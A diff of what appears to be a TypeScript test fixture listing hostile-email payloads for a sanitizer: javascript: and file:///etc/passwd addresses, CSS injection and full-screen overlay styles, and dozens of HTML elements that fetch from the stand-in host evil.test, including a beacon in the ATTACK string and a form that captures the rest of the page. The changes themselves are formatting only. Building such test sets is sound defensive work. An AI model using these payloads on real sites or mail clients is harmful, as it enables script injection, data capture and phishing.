@@ -1,7 +1,8 @@
 /** Decides which spellings and places the hostile mails combine: addresses that run, elements that fetch, styles that move. */
 
 /** What every hostile script tries: be seen by the browser, by the page around, and by the outside. */
-export const ATTACK = "alert(1);window.name='hostile';top.hostile=1;new Image().src='https://evil.test/js'"
+export const ATTACK =
+  "alert(1);window.name='hostile';top.hostile=1;new Image().src='https://evil.test/js'"
 export const EVIL = 'https://evil.test'
 
 const CODE = 'alert(1)'
@@ -52,7 +53,7 @@ export const RUNNING_ADDRESSES: Record<string, string> = {
   file: 'file:///etc/passwd',
   filesystem: 'filesystem:https://evil.test/temporary/a',
   about: 'about:blank#<script>alert(1)</script>',
-  'backquotes': '`javascript:alert(1)`',
+  backquotes: '`javascript:alert(1)`',
 }
 
 /** Places for an address; @ stands for it. */
@@ -91,9 +92,10 @@ export const STYLES: Record<string, string> = {
   'runs a behaviour': `behavior:url(${EVIL}/x.htc)`,
   'runs a binding': `-moz-binding:url(${EVIL}/x.xml#x)`,
   'runs an address': "background:url('javascript:alert(1)')",
-  'covers all': 'position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red',
+  'covers all':
+    'position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red',
   'covers with escapes': 'p\\6fsition:fixed;inset:0',
-  'sticks': 'position:sticky;top:0',
+  sticks: 'position:sticky;top:0',
   'stands outside': 'position:absolute;left:-9999px;top:-9999px',
   'moves out': 'margin:-5000px 0 0 -5000px;transform:translate(-200%,-200%) scale(50)',
   'grows for ever': 'height:99999999px;width:99999999px;font-size:99999px;padding:1e9px',
@@ -102,18 +104,21 @@ export const STYLES: Record<string, string> = {
   'breaks out of the rule': 'color:red}*{background:url(//evil.test/css)',
   'closes the block': 'color:red</style><script>alert(1)</script>',
   'hides behind important': 'position : fixed ! important;inset:0!important',
-  'animates': 'animation:x 1s infinite;transition:all 1s',
+  animates: 'animation:x 1s infinite;transition:all 1s',
 }
 
 /** Elements that fetch, run, redirect or change how addresses are read; @ stands for a place outside. */
 export const FETCHERS: Record<string, string> = {
   'a script': '<script src="@"></script>',
   'a style sheet': '<link rel="stylesheet" href="@"><link rel=preload as=image href="@">',
-  'a prefetch': '<link rel="dns-prefetch" href="@"><link rel=prefetch href="@"><link rel=preconnect href="@">',
+  'a prefetch':
+    '<link rel="dns-prefetch" href="@"><link rel=prefetch href="@"><link rel=preconnect href="@">',
   'a manifest and an icon': '<link rel="manifest" href="@"><link rel="icon" href="@">',
-  'an import in a style': '<style>@import "@"; @import url(@);@font-face{font-family:x;src:url(@)}</style>',
+  'an import in a style':
+    '<style>@import "@"; @import url(@);@font-face{font-family:x;src:url(@)}</style>',
   'a refresh': '<meta http-equiv="refresh" content="0;url=@">',
-  'a cookie': '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *">',
+  'a cookie':
+    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *">',
   'a base': '<base href="@/" target="_top"><a href="x">x</a><img src="x.png">',
   'a frame': '<iframe src="@"></iframe><frameset><frame src="@"></frameset>',
   'a frame with its own text': '<iframe srcdoc="<script>alert(1)</script><img src=@>"></iframe>',
@@ -125,18 +130,26 @@ export const FETCHERS: Record<string, string> = {
   'a picture of old': '<img dynsrc="@/1.png" lowsrc="@/2.png" longdesc="@" usemap="@" alt="x">',
   'a picture element': '<picture><source srcset="@/1.webp"><img src="@/2.png" alt="x"></picture>',
   'a picture under its old name': '<image src="@/1.png">',
-  'sound and film': '<video src="@" poster="@/1.png" autoplay><source src="@"><track src="@"></video><audio src="@" autoplay></audio>',
-  'backgrounds of old': '<body background="@/1.png"><table background="@/2.png"><td background="@/3.png">x</table>',
-  'a picture button': '<form action="@"><input type="image" src="@/1.png"><input name=q autofocus></form>',
+  'sound and film':
+    '<video src="@" poster="@/1.png" autoplay><source src="@"><track src="@"></video><audio src="@" autoplay></audio>',
+  'backgrounds of old':
+    '<body background="@/1.png"><table background="@/2.png"><td background="@/3.png">x</table>',
+  'a picture button':
+    '<form action="@"><input type="image" src="@/1.png"><input name=q autofocus></form>',
   'a form that takes what follows': '<form action="@"><textarea name=rest>the rest of the page',
-  'a button elsewhere': '<button form="x" formaction="@">go</button><input type=submit formaction="@">',
+  'a button elsewhere':
+    '<button form="x" formaction="@">go</button><input type=submit formaction="@">',
   'a ping': '<a href="https://fine.test/" ping="@" attributionsrc="@" download="x.exe">x</a>',
-  'a map': '<map name=m><area href="@" target=_top shape=default></map><img usemap="#m" src="cid:a">',
-  'a drawing': '<svg><image href="@/1.png" xlink:href="@/1.png"/><use href="@#x"/><feImage href="@/2.png"/></svg>',
+  'a map':
+    '<map name=m><area href="@" target=_top shape=default></map><img usemap="#m" src="cid:a">',
+  'a drawing':
+    '<svg><image href="@/1.png" xlink:href="@/1.png"/><use href="@#x"/><feImage href="@/2.png"/></svg>',
   'vector markup of old': '<v:rect><v:fill src="@/1.png"/><v:imagedata src="@/2.png"/></v:rect>',
-  'an xml island': '<xml src="@" id=x></xml><?xml-stylesheet href="@"?><?import namespace="t" implementation="@">',
+  'an xml island':
+    '<xml src="@" id=x></xml><?xml-stylesheet href="@"?><?import namespace="t" implementation="@">',
   'a citation': '<q cite="@">x</q><blockquote cite="@">x</blockquote><ins cite="@">x</ins>',
-  'a conditional comment': '<!--[if gte IE 4]><script src="@"></script><![endif]--><![if true]><img src="@/1.png"><![endif]>',
-  'speculation': '<script type="speculationrules">{"prefetch":[{"urls":["@"]}]}</script>',
+  'a conditional comment':
+    '<!--[if gte IE 4]><script src="@"></script><![endif]--><![if true]><img src="@/1.png"><![endif]>',
+  speculation: '<script type="speculationrules">{"prefetch":[{"urls":["@"]}]}</script>',
   'a layer of old': '<layer src="@"></layer><ilayer src="@"></ilayer><bgsound src="@">',
 }
